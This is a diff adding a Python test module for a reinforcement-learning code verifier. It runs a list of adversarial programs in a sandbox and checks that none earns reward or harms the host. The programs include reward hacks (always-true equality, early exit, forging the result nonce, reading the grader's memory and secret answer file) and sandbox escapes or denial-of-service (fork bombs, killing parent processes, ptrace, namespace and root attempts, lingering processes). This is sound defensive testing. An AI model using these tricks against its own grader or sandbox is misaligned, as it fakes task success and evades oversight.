@@ -1,0 +1,293 @@
+"""Programs that try to be paid for nothing, to hang or break the machine, or to get out. None may get a point.
+
+`attack` runs one in a sandbox and looks at what it left behind. Used by tests/rewards/test_sandbox.py and by
+scripts/check_code_sandbox.py. Sources: the exploits seen to work against other verifiers (frame walking, `__eq__`,
+exit before the asserts, raising where nothing is expected), and the usual ways out of a container.
+"""
+
+import contextlib
+import dataclasses
+import os
+import secrets
+import socket
+import threading
+from pathlib import Path
+
+from lpo_jax.rewards import Verdict, Verifier, get
+
+HOME = str(Path(__file__).parents[1])  # the repository
+
+# Set in every attack: where it finds things on the host, and names that it would leave in the process table.
+PRELUDE = """
+import ctypes, ctypes.util, gc, os, signal, socket, sys, threading, time
+MARK, SECRET_FILE, HOME, PORT = {mark!r}, {secret_file!r}, {home!r}, {port!r}
+libc = ctypes.CDLL(None)
+libc.prctl(15, MARK.encode())  # PR_SET_NAME, which forks inherit
+
+def attempt(function, *arguments):
+    try:
+        return function(*arguments)
+    except BaseException:
+        return None
+
+def show(text):  # whatever looks like an expected output
+    if isinstance(text, bytes):
+        text = text.decode("latin-1")
+    for at in range(len(text)):
+        at = text.find("answer-", at)
+        if at < 0:
+            break
+        print(text[at : at + 39])
+        sys.stdout.flush()
+        os._exit(0)
+"""
+
+LINGER = """
+def linger():
+    signal.signal(signal.SIGTERM, signal.SIG_IGN)
+    attempt(os.setsid)
+    os.execv("/usr/bin/sleep", [MARK, "600"]) if os.path.exists("/usr/bin/sleep") else time.sleep(600)
+"""
+
+
+@dataclasses.dataclass(frozen=True)
+class Exploit:
+    """A program, and the test that it must not pass.
+
+    Attributes:
+      program: what runs after `PRELUDE`.
+      expected: what it should print, or `f` should return; None: a secret that begins with `answer-`.
+      function: whether `f` is called (with 1, 2).
+      weak: whether the weak sandbox withstands it too.
+    """
+
+    program: str
+    expected: str | None = None
+    function: bool = False
+    weak: bool = True
+
+
+EXPLOITS = {
+    # Paid for nothing.
+    "a list equal to everything": Exploit(
+        "class L(list):\n    __eq__ = lambda s, o: True\n    __hash__ = None\n    __len__ = lambda s: 2\n"
+        "f = lambda a, b: L()",
+        "[1, 2]",
+        function=True,
+    ),
+    "text and numbers equal to everything": Exploit(
+        "class S(str):\n    __eq__ = lambda s, o: True\n    __hash__ = str.__hash__\nf = lambda a, b: S('x')",
+        "'y'",
+        function=True,
+    ),
+    "walk the frames and the heap": Exploit(
+        "frame = sys._getframe()\n"
+        "while frame:\n    show(repr(frame.f_locals) + repr(frame.f_globals))\n    frame = frame.f_back\n"
+        "for thing in gc.get_objects():\n    show(attempt(repr, thing) or '')"
+    ),
+    "sys.exit(0)": Exploit("sys.exit(0)"),
+    "os._exit(0)": Exploit("os._exit(0)"),
+    "os._exit(0) from the function": Exploit("f = lambda a, b: os._exit(0)", "3", function=True),
+    "become /usr/bin/true": Exploit("os.execv('/usr/bin/true', ['true'])"),
+    "raise where nothing is expected": Exploit("def f(a, b):\n    raise ValueError", "''", function=True),
+    "raise before printing nothing": Exploit("raise ValueError", "\nx"),
+    "forge a result with the nonce": Exploit(
+        "frame = sys._getframe()\nwhile 'job' not in frame.f_locals:\n    frame = frame.f_back\n"
+        "nonce = frame.f_locals['job']['nonce']\nos.write(3, nonce.encode() + b'true')\nos._exit(0)",
+        "5",
+        function=True,
+    ),
+    "patch what hands out the result": Exploit(
+        "import json, builtins\njson.dumps = lambda value: '{}'\nbuiltins.isinstance = lambda a, b: True\n"
+        "f = lambda a, b: object()",
+        "3",
+        function=True,
+    ),
+    "a result too deep to read": Exploit(
+        "import json\njson.dumps = lambda value: '[' * 2_000_000\nf = lambda a, b: 0", "[1]", function=True
+    ),
+    "a set made to collide": Exploit(
+        "import json\nitems = [i * (2**61 - 1) for i in range(1, 150_000)]\n"
+        "json.dumps = lambda value, dumps=json.dumps: dumps({'set': items})\nf = lambda a, b: 0",
+        "{1, 2}",
+        function=True,
+    ),
+    # Reading what it is judged by.
+    "read the verifier's memory": Exploit(
+        "for pid in attempt(os.listdir, '/proc') or ['1', 'self']:\n"
+        "    for line in attempt(lambda: list(open(f'/proc/{pid}/maps'))) or []:\n"
+        "        start, end = (int(x, 16) for x in line.split()[0].split('-'))\n"
+        "        if 'rw' in line and end - start < 1 << 26:\n"
+        "            memory = attempt(lambda: open(f'/proc/{pid}/mem', 'rb', 0))\n"
+        "            memory and attempt(memory.seek, start)\n"
+        "            memory and show(attempt(memory.read, end - start) or b'')",
+        weak=False,
+    ),
+    "trace the parent": Exploit(
+        "for pid in (1, 2, os.getppid()):\n"
+        "    print(libc.ptrace(16, pid, 0, 0), libc.process_vm_readv(pid, 0, 0, 0, 0, 0))"
+    ),
+    "read the task's files": Exploit("show(open(SECRET_FILE).read())", weak=False),
+    "read the repository": Exploit("print(os.listdir(HOME), open(HOME + '/README.md').read())", weak=False),
+    # Out of bounds.
+    "fork bomb": Exploit("while True:\n    attempt(os.fork)\n    attempt(libc.fork)\n    libc.syscall(57)"),
+    "thread bomb": Exploit(
+        "threading.stack_size(32768)\nwhile True:\n    attempt(threading.Thread(target=time.sleep, args=(60,)).start)",
+        weak=False,
+    ),
+    "10 GB at once": Exploit("x = bytearray(10 << 30)"),
+    "10 GB bit by bit": Exploit("x = []\nwhile True:\n    x.append(bytearray(1 << 20))"),
+    "memory beside the address space": Exploit(
+        "for i in range(20):\n    print(libc.memfd_create(b'x', 0), libc.shmget(0, 1 << 30, 0o1600))"
+    ),
+    "endless output": Exploit("while True:\n    print('x' * 65536)"),
+    "endless output, errors ignored": Exploit("while True:\n    attempt(os.write, 1, b'x' * 65536)"),
+    "endless stderr": Exploit("while True:\n    attempt(os.write, 2, b'x' * 65536)"),
+    "fill the disk": Exploit(
+        "for i in range(1000):\n    attempt(lambda: open(f'/tmp/{MARK}{i}', 'wb').write(b'x' * (100 << 20)))"
+    ),
+    "for ever, deaf to signals": Exploit(
+        "for number in range(1, 65):\n    attempt(signal.signal, number, signal.SIG_IGN)\nwhile True: pass"
+    ),
+    "sleep for ever": Exploit("time.sleep(600)"),
+    "hang while leaving": Exploit("import atexit\natexit.register(time.sleep, 600)"),
+    "a thread that stays": Exploit("threading.Thread(target=time.sleep, args=(600,)).start()"),
+    # Masked instead of scored.
+    "crash the interpreter": Exploit("ctypes.string_at(0)"),
+    "close every file": Exploit("os.closerange(0, 4096)"),
+    "kill everything in reach": Exploit(
+        "for pid in (os.getppid(), 1, 2, 0, -1):\n    attempt(os.kill, pid, 9)\n    libc.kill(pid, 9)\n"
+        "attempt(os.killpg, 0, 9)"
+    ),
+    "signal by proxy": Exploit(
+        "import fcntl\nr, w = os.pipe()\n"
+        "for owner in (os.getppid(), 1):\n"
+        "    attempt(fcntl.fcntl, r, fcntl.F_SETOWN, owner)\n    attempt(fcntl.fcntl, r, 10, 9)\n"
+        "    attempt(fcntl.fcntl, r, fcntl.F_SETFL, os.O_ASYNC)\n    os.write(w, b'x')"
+    ),
+    "an answer that is no text": Exploit("os.write(1, bytes(range(256)) * 1000)"),
+    "a program that is no text": Exploit("x = '\x00\ud800'"),
+    # Out of the box.
+    "connect to the host": Exploit(
+        "s = socket.socket()\ns.connect(('127.0.0.1', PORT))\ns.send(b'here')\nprint('connected')"
+    ),
+    "connect by system call": Exploit("print([libc.socket(family, 1, 0) for family in (1, 2, 10, 16)])"),
+    "write outside of /tmp": Exploit(
+        "for folder in (HOME, '/', '/usr', '/usr/bin', '/dev', '/dev/shm', '/etc', '/root', '/home', '/var/tmp',\n"
+        "               os.path.dirname(SECRET_FILE), sys.prefix, os.path.dirname(os.__file__)):\n"
+        "    attempt(lambda: open(folder + '/' + MARK, 'w').write('here'))\n"
+        "    attempt(lambda: os.mkdir(folder + '/' + MARK + '.d'))\n"
+        "attempt(os.unlink, SECRET_FILE)\nattempt(os.rename, SECRET_FILE, SECRET_FILE + MARK)\n"
+        "attempt(lambda: open(SECRET_FILE, 'w'))"
+    ),
+    "become root": Exploit(
+        "attempt(os.setuid, 0)\nattempt(os.chroot, '/')\nprint(libc.mount(b'x', b'/tmp', b'tmpfs', 0, 0))"
+    ),
+    "new namespaces": Exploit("print(libc.unshare(0x10000000), libc.unshare(0x40000000))"),
+    "outlive its timeout": Exploit(LINGER + "linger()"),
+    "outlive it in a second process": Exploit(
+        LINGER
+        + "for fork in (os.fork, libc.fork, libc.vfork):\n    if attempt(fork) == 0:\n        linger()\nlinger()"
+    ),
+    "start a program": Exploit(
+        "os.system(f'exec -a {MARK} sleep 600 &')\nimport subprocess\n"
+        "subprocess.Popen([MARK, '600'], executable='/usr/bin/sleep')"
+    ),
+    "raise its own limits": Exploit(
+        "import resource\nfor name in dir(resource):\n    if name.startswith('RLIMIT_'):\n"
+        "        attempt(resource.setrlimit, getattr(resource, name), (-1, -1))\n"
+        "        attempt(resource.prlimit, os.getppid(), getattr(resource, name), (0, 0))\n"
+        "x = bytearray(10 << 30)"
+    ),
+}
+
+
+@dataclasses.dataclass(frozen=True)
+class Result:
+    """What came of an attack: the verdict, and in `harm` what it did to the host, one line each."""
+
+    verdict: Verdict
+    harm: list[str]
+
+    @property
+    def withstood(self) -> bool:
+        """No point, no harm, and the sample is not masked either: that would be a way around the 0."""
+        return self.verdict.reward == 0 and not self.verdict.masked and not self.harm
+
+
+def attack(exploit: Exploit, kind: str, folder: Path, verify: Verifier | None = None) -> Result:
+    """Runs an exploit in a sandbox of that kind, under limits of about a second.
+
+    Args:
+      folder: an empty one on the host, for a file that must not be read or changed.
+      verify: another verifier to attack.
+    """
+    mark = "m" + secrets.token_hex(5)
+    secret = "answer-" + secrets.token_hex(16)
+    secret_file = folder / f"secret-{mark}"
+    secret_file.write_text(secret)
+    verify = verify or get("code", time_limit=0.4, total_limit=1.2, memory_mb=512, sandbox=kind)
+    with _listener() as (port, visitors):
+        prelude = PRELUDE.format(mark=mark, secret_file=str(secret_file), home=HOME, port=port)
+        expected = secret if exploit.expected is None else exploit.expected
+        tests = {"inputs": ["1\n2"], "outputs": [expected]}
+        if exploit.function:
+            tests["fn_name"] = "f"
+            tests["outputs"] = [repr(secret)] if exploit.expected is None else [expected]
+        verdict = verify(f"```python\n{prelude}\n{exploit.program}\n```", {"tests": tests})
+    harm = [f"{count} connections to the host" for count in visitors]
+    harm += [f"left process {name}" for name in marked_processes(mark)]
+    if not secret_file.exists() or secret_file.read_text() != secret:
+        harm.append("changed a file of the host")
+    places = (
+        HOME,
+        "/",
+        "/usr",
+        "/usr/bin",
+        "/dev",
+        "/dev/shm",
+        "/etc",
+        "/root",
+        "/home",
+        "/tmp",
+        "/var/tmp",
+        folder,
+    )
+    for place in places:
+        with contextlib.suppress(OSError):
+            harm += [
+                f"wrote {place}/{name}"
+                for name in os.listdir(place)
+                if mark in name and name != secret_file.name
+            ]
+    return Result(verdict, harm)
+
+
+def marked_processes(mark: str) -> list[str]:
+    """Processes of the whole machine that carry the mark in their name or command line."""
+    found = []
+    for pid in filter(str.isdigit, os.listdir("/proc")):
+        with contextlib.suppress(OSError):
+            told = Path(f"/proc/{pid}/comm").read_bytes() + Path(f"/proc/{pid}/cmdline").read_bytes()
+            if mark.encode() in told:
+                found.append(f"{pid}: {told.decode(errors='replace')}")
+    return found
+
+
+@contextlib.contextmanager
+def _listener():
+    """A port of this machine, and the list that every visitor to it is entered in."""
+    visitors: list[int] = []
+    with socket.create_server(("127.0.0.1", 0)) as server:
+
+        def serve():
+            with contextlib.suppress(OSError):
+                while True:
+                    server.accept()[0].close()
+                    visitors.append(1)
+
+        thread = threading.Thread(target=serve, daemon=True)
+        thread.start()
+        yield server.getsockname()[1], visitors
+        server.shutdown(socket.SHUT_RDWR)
+        thread.join()
